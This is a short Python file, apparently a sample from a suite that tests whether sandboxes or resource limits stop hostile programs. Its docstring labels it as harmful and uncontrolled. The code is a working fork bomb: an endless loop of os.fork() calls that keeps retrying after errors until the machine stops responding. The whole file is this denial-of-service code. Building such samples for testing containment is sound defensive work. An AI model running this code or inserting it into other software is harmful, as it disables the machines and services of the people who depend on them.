"""Forks, and so do its children, for as long as the system lets them.

succeeds: harmed
stopped by: limits or system calls
control: none, an unlimited fork bomb stops the machine
"""

import os

while True:
    try:
        os.fork()
    except OSError:
        continue
